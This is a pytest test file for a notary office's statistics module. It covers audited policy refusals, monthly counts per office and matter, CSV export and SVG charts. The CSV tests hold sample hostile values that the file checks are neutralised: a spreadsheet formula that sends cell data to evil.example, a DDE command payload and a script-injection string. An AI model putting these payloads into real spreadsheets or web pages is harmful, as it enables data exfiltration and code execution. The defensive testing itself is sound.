"""The regulator's statistics (issue #16): policy refusals audited when issuing, the monthly
figures per office and matter (SQLite and PostgreSQL), the CSV export and the SVG charts."""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import io
import itertools
import json
import uuid
import xml.etree.ElementTree as ET

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func
from sqlmodel import Session, col, select

from anchoring.models import AnchorBatch, BatchState, OutboxEntry
from console.charts import PALETTE, bar_chart, compact, stacked_bar_chart
from console.csv_export import BOM, STATISTICS_HEADER, statistics_csv, verifications_csv
from console.statistics import (MonthRow, month_range, monthly_statistics, totals, totals_by_matter,
                                totals_by_month, totals_by_office, verifications_by_key)
from issuer.drafts import check_draft, create_draft
from issuer.lifecycle import RevocationReason, correct_certificate, revoke_certificate
from issuer.models import CertificateCounter, NumberReservation
from issuer.policy import REFUSAL_ACTION, PolicyViolation
from issuer.service import IssueRequest, issue_batch, issue_certificate
from notary.app import create_app
from notary.database import make_engine, migrate
from records import audit
from records.audit import AuditEvent, verify_chain
from records.matters import EXAMPLES, parse_matter
from records.models import Certificate, CertificateStatus
from storage.sessions import write_session
from verifier.apikeys import create_api_key
from verifier.models import ApiKey, VerificationLog

ELDERLY_FULL_POA = {**EXAMPLES["power-of-attorney"], "applicant_name": "钱老先生", "birth_date": "1950-05-01",
                    "id_number": "310112195005010010", "scope": "全权委托", "disposes_real_estate": True,
                    "powers": ["代为出售上海市闵行区某路某号房屋"]}
PERSONAL = ("钱老先生", "310112195005010010", "1950-05-01", "闵行区")
CST = dt.timezone(dt.timedelta(hours=8))
UTC = dt.timezone.utc


def _refusals(engine) -> list[AuditEvent]:
    with Session(engine) as s:
        return list(s.exec(select(AuditEvent).where(AuditEvent.action == REFUSAL_ACTION).order_by(col(AuditEvent.seq))))


def _count(engine, model) -> int:
    with Session(engine) as s:
        return s.exec(select(func.count()).select_from(model)).one()


# ------------------------------------------------------------------ policy refusals audited

def test_a_refused_issue_is_audited_once_without_personal_data_or_a_number(runtime):
    """Runs on SQLite and on PostgreSQL."""
    rt = runtime
    ctx = rt.issuer_context()
    events_before = _count(rt.engine, AuditEvent)
    with pytest.raises(PolicyViolation) as refused:
        issue_certificate(ctx, "power-of-attorney", ELDERLY_FULL_POA, actor="notary:王丽")
    assert refused.value.code == "POLICY_ELDERLY_FULL_POA"
    assert _count(rt.engine, AuditEvent) == events_before + 1
    (event,) = _refusals(rt.engine)
    assert (event.actor, event.target, event.office_code) == ("notary:王丽", "power-of-attorney", rt.office.code)
    assert json.loads(event.details) == {"rule": "POLICY_ELDERLY_FULL_POA", "matter": "power-of-attorney"}
    assert not any(p in event.details + event.target for p in PERSONAL)
    # Nothing issued, no number taken: the next certificate is number 1.
    assert _count(rt.engine, Certificate) == 0 and _count(rt.engine, NumberReservation) == 0
    with Session(rt.engine) as s:
        assert all(c.last_serial == 0 for c in s.exec(select(CertificateCounter)))

    # A draft's check says what stops it, and records nothing.
    draft = create_draft(rt.engine, rt.office.code, "power-of-attorney", ELDERLY_FULL_POA, "zh", "notary:王丽")
    assert check_draft(draft).code == "POLICY_ELDERLY_FULL_POA"
    assert len(_refusals(rt.engine)) == 1

    # A batch: every refused request recorded, nothing issued, the first refusal raised.
    elderly = parse_matter("power-of-attorney", ELDERLY_FULL_POA)
    fine = parse_matter("birth", EXAMPLES["birth"])
    with pytest.raises(PolicyViolation):
        issue_batch(ctx, [IssueRequest("power-of-attorney", elderly), IssueRequest("birth", fine),
                          IssueRequest("power-of-attorney", elderly)], actor="operator:值班员")
    assert [(e.actor, e.target) for e in _refusals(rt.engine)[1:]] == [("operator:值班员", "power-of-attorney")] * 2
    assert _count(rt.engine, Certificate) == 0 and _count(rt.engine, NumberReservation) == 0
    assert verify_chain(rt.engine) is None

    first = issue_certificate(ctx, "birth", EXAMPLES["birth"])
    with Session(rt.engine) as s:
        assert s.get(Certificate, first.id).serial == 1


# ------------------------------------------------------------------ the statistics, end to end

def test_statistics_of_real_issuing_anchoring_and_verifying(runtime):
    """Runs on SQLite and on PostgreSQL: issue, correct, revoke, refuse, anchor and verify
    through the batch API, then count."""
    rt = runtime
    ctx = rt.issuer_context()
    office = rt.office.code
    first = issue_certificate(ctx, "birth", EXAMPLES["birth"])
    second = issue_certificate(ctx, "birth", EXAMPLES["birth"])
    will = issue_certificate(ctx, "will", EXAMPLES["will"])  # the testator is over 80: fee-exempt
    with pytest.raises(PolicyViolation):
        issue_certificate(ctx, "power-of-attorney", ELDERLY_FULL_POA)
    correction = correct_certificate(ctx, first.id, {**EXAMPLES["birth"], "birth_place": "上海市静安区"})
    revoke_certificate(rt.engine, second.id, RevocationReason.ISSUED_IN_ERROR)

    before = totals_by_matter(monthly_statistics(rt.engine, office=office))
    assert before["birth"].pending_anchors == 3 and before["birth"].anchored == 0
    assert before["birth"].anchor_delay_avg_s is None

    rt.worker().run_once(force=True)
    _, key = create_api_key(rt.engine, "上海市不动产登记中心")
    client = TestClient(create_app(rt), raise_server_exceptions=False)
    answer = client.post("/api/v1/verify/batch", headers={"Authorization": f"Bearer {key}"}, json={"items": [
        {"id": str(correction.id)}, {"id": str(will.id)}, {"id": str(first.id)}, {"sha256": "00" * 32}]})
    assert answer.status_code == 200 and len(answer.json()["results"]) == 4

    rows = monthly_statistics(rt.engine, office=office)
    assert {r.office_code for r in rows} == {office}
    by_matter = totals_by_matter(rows)
    assert set(by_matter) == {"birth", "will", "power-of-attorney"}
    birth, will_totals, poa = by_matter["birth"], by_matter["will"], by_matter["power-of-attorney"]
    assert (birth.issued, birth.corrected, birth.revoked, birth.fee_exempt, birth.policy_refusals) == (3, 1, 1, 0, 0)
    assert (will_totals.issued, will_totals.fee_exempt, will_totals.revoked) == (1, 1, 0)
    assert (poa.issued, poa.policy_refusals) == (0, 1)
    assert (birth.verifications, will_totals.verifications, poa.verifications) == (2, 1, 0)
    # Anchoring delay: issued_at to the batch's confirmation, as stored.
    with Session(rt.engine) as s:
        delays = {c.matter: [] for c in s.exec(select(Certificate))}
        for cert, batch in s.exec(select(Certificate, AnchorBatch)
                                  .join(OutboxEntry, col(OutboxEntry.certificate_id) == Certificate.id)
                                  .join(AnchorBatch, col(AnchorBatch.id) == OutboxEntry.batch_id)):
            assert batch.state == BatchState.CONFIRMED
            delays[cert.matter].append((batch.confirmed_at - cert.issued_at).total_seconds())
    assert birth.anchored == 3 and birth.pending_anchors == 0 and will_totals.anchored == 1
    assert birth.anchor_delay_avg_s == pytest.approx(sum(delays["birth"]) / 3, abs=1e-3)
    assert birth.anchor_delay_max_s == pytest.approx(max(delays["birth"]), abs=1e-3)
    assert 0 < birth.anchor_delay_avg_s <= birth.anchor_delay_max_s < 600
    # Each row's month is the month (China Standard Time) of what it counts.
    with Session(rt.engine) as s:
        months = {c.issued_at.astimezone(CST).strftime("%Y-%m") for c in s.exec(select(Certificate))}
    assert {r.month for r in rows if r.issued} <= months
    # The registry by name: four items logged, the unknown fingerprint included.
    assert verifications_by_key(rt.engine) == [("上海市不动产登记中心", 4)]
    assert verifications_by_key(rt.engine, office=office) == [("上海市不动产登记中心", 3)]
    assert verifications_by_key(rt.engine, office="SH-NOWHERE") == []
    assert monthly_statistics(rt.engine, office="SH-NOWHERE") == []


# ------------------------------------------------------------------ months, offices, filters

@pytest.fixture
def engine(database_url, tmp_path):
    """A migrated database without a runtime: SQLite, then PostgreSQL."""
    engine = make_engine(database_url or f"sqlite:///{tmp_path / 'statistics.sqlite3'}")
    migrate(engine)
    yield engine
    engine.dispose()


_serials = itertools.count(1)


def _cert(office: str, matter: str, issued_at: dt.datetime, **fields) -> Certificate:
    n = next(_serials)
    return Certificate(id=uuid.uuid4(), number=f"(2025){office}字第{n:06d}号", office_code=office,
                       office_name="测试公证处", year=2025, serial=n, matter=matter, applicant_name="测试",
                       notary="王丽", data_json="{}", document_sha256=hashlib.sha256(uuid.uuid4().bytes).hexdigest(),
                       signer_fingerprint="00" * 32, check_code="ABCDEFGH", issued_at=issued_at, **fields)


def _anchor(cert: Certificate, confirmed_after: float | None, office: str) -> list:
    """The certificate's outbox row in a batch of its own, confirmed ``confirmed_after``
    seconds after it was issued (None: sent, not confirmed)."""
    batch = AnchorBatch(root=hashlib.sha256(cert.id.bytes).hexdigest(), tree_size=1, office_code=office,
                        state=BatchState.CONFIRMED if confirmed_after is not None else BatchState.SENT,
                        confirmed_at=cert.issued_at + dt.timedelta(seconds=confirmed_after)
                        if confirmed_after is not None else None)
    return [batch, OutboxEntry(certificate_id=cert.id, document_sha256=cert.document_sha256, leaf_hash="11" * 32,
                               office_code=office, batch_id=batch.id, leaf_index=0)]


def _at(*args) -> dt.datetime:
    return dt.datetime(*args, tzinfo=UTC)


@pytest.fixture
def populated(engine, monkeypatch):
    """Two offices over January to March 2025, with times either side of a month's end
    in China Standard Time (UTC+8)."""
    other, third = "SH-OTHER", "SH-THIRD"
    c1 = _cert(other, "birth", _at(2025, 1, 10, 2))
    c2 = _cert(other, "birth", _at(2025, 1, 31, 15, 59, 59), status=CertificateStatus.SUPERSEDED,
               revoked_at=_at(2025, 2, 2))  # 23:59:59 on 31 January in Shanghai; corrected in February
    c3 = _cert(other, "will", _at(2025, 1, 15), fee_exempt=True, fee_note="免费")
    c4 = _cert(other, "birth", _at(2025, 1, 31, 16), supersedes=c2.id)  # 00:00 on 1 February in Shanghai
    c5 = _cert(other, "birth", _at(2025, 2, 10), status=CertificateStatus.REVOKED, revoked_at=_at(2025, 3, 5),
               revocation_reason=1)
    c6 = _cert(third, "degree", _at(2025, 2, 20))
    registry = ApiKey(name="上海市不动产登记中心", key_hash="a" * 64)
    court = ApiKey(name="上海市高级人民法院", key_hash="b" * 64)
    with write_session(engine) as s:
        s.add_all([c1, c2, c3, c4, c5, c6, registry, court])
        s.flush()
        for row in [*_anchor(c1, 30, other), *_anchor(c2, 90, other), *_anchor(c3, None, other)]:
            s.add(row)
            s.flush()  # batches before the outbox rows that name them
        s.add_all([VerificationLog(api_key_id=registry.id, target=str(c1.id), certificate_id=c1.id,
                                   indication="PASSED", at=_at(2025, 2, 3)) for _ in range(3)])
        s.add(VerificationLog(api_key_id=registry.id, target="00" * 32, indication="FAILED", at=_at(2025, 2, 4)))
        s.add(VerificationLog(api_key_id=court.id, target=str(c5.id), certificate_id=c5.id, indication="FAILED",
                              at=_at(2025, 3, 1, 15)))  # 23:00 on 1 March in Shanghai
        s.add(VerificationLog(api_key_id=court.id, target=str(c6.id), certificate_id=c6.id, indication="PASSED",
                              at=_at(2025, 2, 21)))
        s.commit()
    for at, office in ((_at(2025, 1, 31, 16, 30), other), (_at(2025, 3, 2), third)):
        monkeypatch.setattr(audit, "utcnow", lambda at=at: at)
        audit.record(engine, "notary:王丽", REFUSAL_ACTION, "power-of-attorney",
                     {"rule": "POLICY_ELDERLY_FULL_POA", "matter": "power-of-attorney"}, office=office)
    monkeypatch.undo()
    return engine


def _flat(rows: list[MonthRow]) -> list[tuple]:
    return [(r.office_code, r.matter, r.month, r.issued, r.corrected, r.revoked, r.fee_exempt, r.policy_refusals,
             r.anchored, r.pending_anchors,
             None if r.anchor_delay_avg_s is None else round(r.anchor_delay_avg_s, 3),
             None if r.anchor_delay_max_s is None else round(r.anchor_delay_max_s, 3), r.verifications)
            for r in rows]


# office, matter, month, issued, corrected, revoked, fee_exempt, refusals, anchored, pending, avg, max, verifications
EXPECTED = [
    ("SH-OTHER", "birth", "2025-01", 2, 0, 0, 0, 0, 2, 0, 60.0, 90.0, 0),
    ("SH-OTHER", "will", "2025-01", 1, 0, 0, 1, 0, 0, 1, None, None, 0),
    ("SH-OTHER", "birth", "2025-02", 2, 1, 0, 0, 0, 0, 2, None, None, 3),
    ("SH-OTHER", "power-of-attorney", "2025-02", 0, 0, 0, 0, 1, 0, 0, None, None, 0),
    ("SH-THIRD", "degree", "2025-02", 1, 0, 0, 0, 0, 0, 1, None, None, 1),
    ("SH-OTHER", "birth", "2025-03", 0, 0, 1, 0, 0, 0, 0, None, None, 1),
    ("SH-THIRD", "power-of-attorney", "2025-03", 0, 0, 0, 0, 1, 0, 0, None, None, 0),
]


def test_counts_per_office_matter_and_month(populated):
    """Runs on SQLite and on PostgreSQL. Months are Shanghai's: 23:59:59 on 31 January
    counts in January, midnight in February; a revocation in the month it happened; a
    superseded certificate is no revocation; a verification of no certificate in no office."""
    assert _flat(monthly_statistics(populated)) == EXPECTED
    # In UTC, 16:00 on 31 January (and the refusal half an hour later) is still January.
    utc = {(r.office_code, r.matter, r.month): r for r in monthly_statistics(populated, utc_offset=dt.timedelta(0))}
    assert (utc["SH-OTHER", "birth", "2025-01"].issued, utc["SH-OTHER", "birth", "2025-01"].corrected) == (3, 1)
    assert utc["SH-OTHER", "power-of-attorney", "2025-01"].policy_refusals == 1
    assert utc["SH-OTHER", "birth", "2025-03"].verifications == 1


def test_filters_by_office_and_days(populated):
    """Runs on SQLite and on PostgreSQL. ``since`` is included, ``until`` excluded, both days
    in Shanghai."""
    assert _flat(monthly_statistics(populated, office="SH-THIRD")) == [e for e in EXPECTED if e[0] == "SH-THIRD"]
    february = monthly_statistics(populated, since=dt.date(2025, 2, 1), until=dt.date(2025, 3, 1))
    assert _flat(february) == [e for e in EXPECTED if e[2] == "2025-02"]
    january = monthly_statistics(populated, until=dt.date(2025, 2, 1))
    assert _flat(january) == [e for e in EXPECTED if e[2] == "2025-01"]
    assert monthly_statistics(populated, since=dt.date(2025, 4, 1)) == []
    assert monthly_statistics(populated, office="SH-OTHER", since=dt.date(2025, 3, 1))[0].revoked == 1


def test_totals_for_the_charts(populated):
    rows = monthly_statistics(populated)
    by_office = totals_by_office(rows)
    assert list(by_office) == ["SH-OTHER", "SH-THIRD"]
    other = by_office["SH-OTHER"]
    assert (other.issued, other.corrected, other.revoked, other.fee_exempt, other.policy_refusals,
            other.anchored, other.pending_anchors, other.verifications) == (5, 1, 1, 1, 1, 2, 3, 4)
    assert other.anchor_delay_avg_s == pytest.approx(60, abs=1e-3)
    assert other.anchor_delay_max_s == pytest.approx(90, abs=1e-3)
    assert by_office["SH-THIRD"].anchor_delay_avg_s is None
    by_month = totals_by_month(rows, month_range(dt.date(2024, 12, 1), dt.date(2025, 5, 1)))
    assert list(by_month) == ["2024-12", "2025-01", "2025-02", "2025-03", "2025-04"]
    assert [t.issued for t in by_month.values()] == [0, 3, 3, 0, 0]
    assert [t.verifications for t in by_month.values()] == [0, 0, 4, 1, 0]
    assert totals(rows).issued == 6 and totals([]).anchor_delay_avg_s is None
    # The average is weighted by what was anchored, not an average of averages.
    weighted = totals([MonthRow("A", "birth", "2025-01", issued=3, anchored=3, anchor_delay_avg_s=10.0,
                                anchor_delay_max_s=20.0),
                       MonthRow("A", "will", "2025-01", issued=1, anchored=1, anchor_delay_avg_s=50.0,
                                anchor_delay_max_s=50.0)])
    assert (weighted.anchor_delay_avg_s, weighted.anchor_delay_max_s) == (20.0, 50.0)
    assert month_range(dt.date(2025, 11, 15), dt.date(2026, 2, 1)) == ["2025-11", "2025-12", "2026-01"]
    assert month_range(dt.date(2025, 3, 1), dt.date(2025, 3, 1)) == []


def test_verifications_by_registry_and_court(populated):
    """Runs on SQLite and on PostgreSQL."""
    assert verifications_by_key(populated) == [("上海市不动产登记中心", 4), ("上海市高级人民法院", 2)]
    assert verifications_by_key(populated, dt.date(2025, 3, 1)) == [("上海市高级人民法院", 1)]
    assert verifications_by_key(populated, None, dt.date(2025, 2, 4)) == [("上海市不动产登记中心", 3)]
    assert verifications_by_key(populated, office="SH-THIRD") == [("上海市高级人民法院", 1)]


def test_a_year_of_certificates_is_counted_quickly(engine):
    """Runs on SQLite and on PostgreSQL: 20,000 certificates with their anchoring and
    60,000 verifications counted in well under a second (100,000 in about one)."""
    import time

    from sqlalchemy import insert

    key = uuid.uuid4()
    start = _at(2025, 1, 1)
    certs, outbox, logs = [], [], []
    batch = uuid.uuid4()
    for i in range(20_000):
        at = start + dt.timedelta(minutes=26 * i)
        cid = uuid.uuid4()
        certs.append(dict(id=cid, number=f"n{i}", office_code=("SH-A", "SH-B")[i % 2], office_name="x", year=2025,
                          serial=i, matter=("birth", "will", "degree")[i % 3], applicant_name="测试", notary="王丽",
                          data_json="{}", status="issued", fee_exempt=i % 7 == 0, language="zh",
                          document_sha256=f"{i:064x}", signer_fingerprint="00", check_code="c", issued_at=at))
        outbox.append(dict(certificate_id=cid, document_sha256=f"{i:064x}", leaf_hash="11", office_code="SH-A",
                           created_at=at, batch_id=batch))
        logs += [dict(api_key_id=key, target=str(cid), certificate_id=cid, indication="PASSED", at=at)] * 3
    with engine.begin() as c:
        c.execute(insert(ApiKey.__table__), [dict(id=key, name="法院", key_hash="c" * 64, items_per_minute=1,
                                                   created_at=start)])
        c.execute(insert(AnchorBatch.__table__), [dict(id=batch, state="confirmed", root="22" * 32, tree_size=1,
                                                       office_code="SH-A", created_at=start, attempts=0,
                                                       confirmed_at=_at(2026, 1, 1))])
        c.execute(insert(Certificate.__table__), certs)
        c.execute(insert(OutboxEntry.__table__), outbox)
        c.execute(insert(VerificationLog.__table__), logs)
    began = time.perf_counter()
    rows = monthly_statistics(engine, since=dt.date(2024, 12, 1), until=dt.date(2026, 1, 1))
    elapsed = time.perf_counter() - began
    assert sum(r.issued for r in rows) == 20_000 and sum(r.verifications for r in rows) == 60_000
    assert sum(r.anchored for r in rows) == 20_000 and sum(r.fee_exempt for r in rows) == 2858
    assert elapsed < 2.0, f"{elapsed:.2f} s"


# ------------------------------------------------------------------ CSV

HOSTILE_OFFICE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
HOSTILE_MATTER = '+cmd|"/c calc"!A0\r\nsecond line, with "quotes"'


def _read_csv(text: str) -> list[list[str]]:
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[len(BOM):], newline="")))


def test_csv_quotes_and_disarms_hostile_text():
    rows = [MonthRow(HOSTILE_OFFICE, HOSTILE_MATTER, "2025-01", issued=3, corrected=1, anchored=2,
                     pending_anchors=1, anchor_delay_avg_s=61.26, anchor_delay_max_s=-0.5),
            MonthRow("@SUM(1+1)", "\tbirth", "2025-02"), MonthRow("-2+3", "-", "2025-02"),
            MonthRow("SH-DONGFANG", "birth", "2025-03", issued=1, fee_exempt=1, verifications=7)]
    text = statistics_csv(rows)
    assert text.encode("utf-8").startswith(b"\xef\xbb\xbf")  # Excel reads the Chinese as UTF-8
    assert text.endswith("\r\n") and text.split("\n", 1)[0].endswith("\r")  # CRLF, as RFC 4180 has it
    table = _read_csv(text)
    assert table[0] == STATISTICS_HEADER and "issued 出证" in table[0]
    assert len(table) == 5 and all(len(r) == len(STATISTICS_HEADER) for r in table)
    first = table[1]
    assert first[0] == "'" + HOSTILE_OFFICE and first[1] == "'" + HOSTILE_MATTER  # quotes and line break kept
    assert first[2] == "" and first[3:] == ["2025-01", "3", "1", "0", "0", "0", "2", "1", "61.3", "-0.5", "0"]
    assert [table[2][0], table[2][1]] == ["'@SUM(1+1)", "'\tbirth"]
    assert [table[3][0], table[3][1]] == ["'-2+3", "'-"]
    assert table[4][:4] == ["SH-DONGFANG", "birth", "出生公证", "2025-03"] and table[4][-1] == "7"
    assert table[4][11:13] == ["", ""]  # nothing anchored: no delay
    for line in text[len(BOM):].split("\r\n")[1:]:  # no cell of a record starts a formula
        assert not line.startswith(("=", "+", "-", "@"))
    assert _read_csv(statistics_csv([])) == [STATISTICS_HEADER]

    keys = _read_csv(verifications_csv([("=1+2", 5), ('法院 "一"', 2)]))
    assert keys == [["registry or court 登记机构或法院", "verifications 核验次数"], ["'=1+2", "5"], ['法院 "一"', "2"]]


# ------------------------------------------------------------------ SVG

SVG = "{http://www.w3.org/2000/svg}"


def test_charts_escape_labels_and_are_well_formed():
    hostile = '<script>alert("x")</script>&amp;\x00\x1b'
    svg = bar_chart(f"出证 {hostile}", [("SH-DONGFANG", 12), (hostile, 3), ("上海市徐汇公证处" * 6, 1e21),
                                       ("nan", float("nan")), ("negative", -4)], unit="份")
    assert "<script" not in svg and "\x00" not in svg and "\x1b" not in svg
    root = ET.fromstring(svg)
    assert root.tag == f"{SVG}svg" and root.get("role") == "img"
    title, desc = root.find(f"{SVG}title"), root.find(f"{SVG}desc")
    assert title is not None and title.text == '出证 <script>alert("x")</script>&amp;'
    assert desc is not None and "SH-DONGFANG: 12 份" in desc.text and '<script>alert("x")</script>' in desc.text
    assert root.get("aria-labelledby") == f"{title.get('id')} {desc.get('id')}"
    assert not root.findall(f".//{SVG}script") and not root.findall(f".//{SVG}image")
    assert "http" not in svg.replace("http://www.w3.org/2000/svg", "")  # nothing fetched from outside
    widths = [float(r.get("width")) for r in root.iter(f"{SVG}rect")][1:]  # after the background
    assert max(widths) <= 640 and widths[-2:] == [0.0, 0.0]  # NaN and negatives drawn as nothing
    assert svg == bar_chart(f"出证 {hostile}", [("SH-DONGFANG", 12), (hostile, 3), ("上海市徐汇公证处" * 6, 1e21),
                                               ("nan", float("nan")), ("negative", -4)], unit="份")  # deterministic

    months = month_range(dt.date(2025, 1, 1), dt.date(2027, 1, 1))
    stacked = stacked_bar_chart("每月 <b>issued</b>", months, {
        "new 新出": [i * 1e12 for i in range(24)], "corrected <i>": [1.0] * 24, "revoked 撤销": [0.0] * 24})
    root = ET.fromstring(stacked)
    assert root.find(f"{SVG}title").text == "每月 <b>issued</b>" and "<i>" not in stacked and "<b>" not in stacked
    fills = {r.get("fill") for r in root.iter(f"{SVG}rect")}
    assert {PALETTE[0], PALETTE[1]} <= fills
    ticks = [t.text for t in root.iter(f"{SVG}text")]
    assert "25T" in ticks and "0" in ticks  # a huge scale, written compactly
    for r in root.iter(f"{SVG}rect"):
        assert 0 <= float(r.get("y")) and float(r.get("y")) + float(r.get("height")) <= 320
    with pytest.raises(ValueError):
        stacked_bar_chart("x", ["2025-01"], {"a": [1.0, 2.0]})


def test_charts_of_nothing():
    for svg in (bar_chart("各公证处出证", []), stacked_bar_chart("每月出证", [], {"issued": []}),
                stacked_bar_chart("每月出证", ["2025-01"], {}), bar_chart("零", [("SH-A", 0), ("SH-B", 0)]),
                stacked_bar_chart("零", ["2025-01", "2025-02"], {"issued": [0, 0]})):
        root = ET.fromstring(svg)
        assert root.get("role") == "img" and root.find(f"{SVG}desc").text
    assert "无数据" in bar_chart("各公证处出证", []) and "无数据" in stacked_bar_chart("x", [], {})
    assert [compact(v) for v in (0, 7, 2.5, 1500, 999_999, 4.56e6, 1e21)] == \
        ["0", "7", "2.5", "1.5k", "1M", "4.56M", "1.00e+21"]
